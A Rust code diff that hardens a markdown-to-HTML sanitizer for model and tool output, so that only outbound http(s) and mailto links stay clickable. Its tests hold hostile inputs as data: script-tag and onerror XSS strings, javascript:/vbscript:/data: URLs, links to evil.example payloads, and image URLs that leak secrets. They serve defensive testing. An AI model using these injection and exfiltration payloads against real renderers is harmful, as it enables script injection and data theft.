@@ -1,9 +1,15 @@
 //! Markdown from models and tools to HTML that is safe to insert: raw HTML is shown as text,
-//! links with script-capable schemes lose their link, images are not loaded.
+//! images are not loaded, and only links that leave the app stay links.
 
 use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};
 
-pub fn render_markdown(text: &str) -> String {
+use crate::origin::Origin;
+
+/// `page_origin` is the app's own origin (`https://user.github.io`): links back into it lose
+/// their link, like relative ones, since model and tool text has no business opening the
+/// app's own files.
+pub fn render_markdown(text: &str, page_origin: &str) -> String {
+    let is_safe_url = |url: &str| is_link_out(url, page_origin);
     let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
     let mut dropped_links = Vec::new(); // per open link: was it dropped?
     let mut image_links = Vec::new(); // per open image: is it shown as a link?
@@ -49,7 +55,7 @@ pub fn render_markdown(text: &str) -> String {
                     "[image from {}: ",
                     host_of(&dest_url)
                 )));
-                let linked = is_safe_url(&dest_url) && dest_url.contains("://");
+                let linked = is_safe_url(&dest_url);
                 image_links.push(linked);
                 if linked {
                     vec![
@@ -85,22 +91,15 @@ pub fn render_markdown(text: &str) -> String {
     )
 }
 
-/// Only http(s), mailto and relative links are kept: an allowlist, whatever the scheme's length.
-fn is_safe_url(url: &str) -> bool {
-    // Browsers ignore whitespace and control characters inside a scheme ("java\tscript:").
-    let cleaned: String = url
-        .chars()
-        .filter(|c| !c.is_whitespace() && !c.is_control())
-        .collect();
-    let lower = cleaned.to_ascii_lowercase();
-    let Some(colon) = lower.find(':') else {
-        return true; // no scheme: a relative link or fragment
-    };
-    let scheme = &lower[..colon];
-    if scheme.contains(['/', '?', '#']) {
-        return true; // the colon is past the path start: relative
+/// Only absolute http(s) links to another origin, and mailto links, are kept: an allowlist.
+/// Relative, fragment and `//host` links, other schemes, and URLs a browser might read
+/// differently from `Origin::of` (user names, backslashes, whitespace) lose their link.
+fn is_link_out(url: &str, page_origin: &str) -> bool {
+    if let Some(address) = url.strip_prefix("mailto:") {
+        return !address.is_empty()
+            && !address.chars().any(|c| c.is_whitespace() || c.is_control());
     }
-    matches!(scheme, "http" | "https" | "mailto")
+    Origin::of(url).is_some_and(|o| o.to_string() != page_origin)
 }
 
 fn host_of(url: &str) -> String {
@@ -117,6 +116,40 @@ fn host_of(url: &str) -> String {
 mod tests {
     use super::*;
 
+    const PAGE: &str = "https://arena.example.org";
+
+    fn md(text: &str) -> String {
+        render_markdown(text, PAGE)
+    }
+
+    #[test]
+    fn links_back_into_the_app_are_not_links() {
+        for url in [
+            "search-frame.html#https://evil.example/x.js",
+            "./search-frame.html#http://127.0.0.1:9/evil.js",
+            "/search-frame.html",
+            "#embed",
+            "?embed=1",
+            "//evil.example/x",
+            "https://arena.example.org/search-frame.html#https://evil.example/x.js",
+            "HTTPS://ARENA.example.org:443/",
+            "http://evil.example@arena.example.org/",
+            "https:\\\\evil.example/",
+            "mailto:",
+        ] {
+            let out = md(&format!("[source]({url})"));
+            assert!(!out.contains("<a"), "{url}: {out}");
+            assert!(out.contains("source"), "the text stays: {out}");
+        }
+        assert!(md("[ok](https://en.wikipedia.org/wiki/X)").contains("<a "));
+        assert!(
+            md("[ok](http://arena.example.org:8080/)").contains("<a "),
+            "another origin"
+        );
+        assert!(md("[mail](mailto:someone@example.org)").contains("<a "));
+        assert!(md("<https://en.wikipedia.org/wiki/X>").contains("<a "));
+    }
+
     #[test]
     fn long_or_odd_schemes_lose_their_link() {
         for url in [
@@ -124,26 +157,26 @@ mod tests {
             "x-apple-systempreferences:x",
             "java\tscript:alert(1)",
         ] {
-            let out = render_markdown(&format!("[a]({url})"));
+            let out = md(&format!("[a]({url})"));
             assert!(!out.contains("<a"), "{url}: {out}");
         }
-        assert!(render_markdown("[a](https://example.org/a:b)").contains("<a "));
-        assert!(render_markdown("[a](/docs/x:y)").contains("<a "));
+        assert!(md("[a](https://example.org/a:b)").contains("<a "));
+        assert!(!md("[a](/docs/x:y)").contains("<a "), "relative");
     }
 
     #[test]
     fn images_become_placeholders_that_open_only_on_click() {
-        let out = render_markdown("![chart](http://127.0.0.1:9/leak?d=secret)");
+        let out = md("![chart](http://127.0.0.1:9/leak?d=secret)");
         assert!(!out.contains("<img"), "{out}");
         assert!(out.contains("[image from 127.0.0.1:9: chart]"), "{out}");
         assert!(out.contains("<a target=\"_blank\" rel=\"noopener noreferrer\" href=\"http://127.0.0.1:9/leak?d=secret\">"), "{out}");
-        let out = render_markdown("![x](javascript:alert(1))");
+        let out = md("![x](javascript:alert(1))");
         assert!(!out.contains("<a") && !out.contains("<img"), "{out}");
     }
 
     #[test]
     fn formats_markdown() {
-        let h = render_markdown("**bold** and `code`\n\n- a\n- b");
+        let h = md("**bold** and `code`\n\n- a\n- b");
         assert!(h.contains("<strong>bold</strong>"));
         assert!(h.contains("<code>code</code>"));
         assert!(h.contains("<li>a</li>"));
@@ -151,8 +184,7 @@ mod tests {
 
     #[test]
     fn raw_html_is_text() {
-        let h =
-            render_markdown("<script>alert(1)</script>\n\nhi <img src=x onerror=alert(1)> there");
+        let h = md("<script>alert(1)</script>\n\nhi <img src=x onerror=alert(1)> there");
         assert!(!h.contains("<script"), "{h}");
         assert!(!h.contains("<img"), "{h}");
         assert!(h.contains("&lt;script&gt;"), "{h}");
@@ -168,17 +200,17 @@ mod tests {
             "data:text/html,x",
             "vbscript:x",
         ] {
-            let h = render_markdown(&format!("[click]({url})"));
+            let h = md(&format!("[click]({url})"));
             assert!(!h.contains("href"), "{url}: {h}");
             assert!(h.contains("click"));
         }
-        let h = render_markdown("[ok](https://example.org/a)");
+        let h = md("[ok](https://example.org/a)");
         assert!(h.contains(r#"<a target="_blank" rel="noopener noreferrer" href="https://example.org/a">ok</a>"#), "{h}");
     }
 
     #[test]
     fn images_are_not_loaded() {
-        let h = render_markdown("![secret](http://127.0.0.1:9/leak?d=abc)");
+        let h = md("![secret](http://127.0.0.1:9/leak?d=abc)");
         assert!(!h.contains("<img"), "{h}");
         assert!(h.contains("[image from 127.0.0.1:9: secret]"), "{h}");
     }
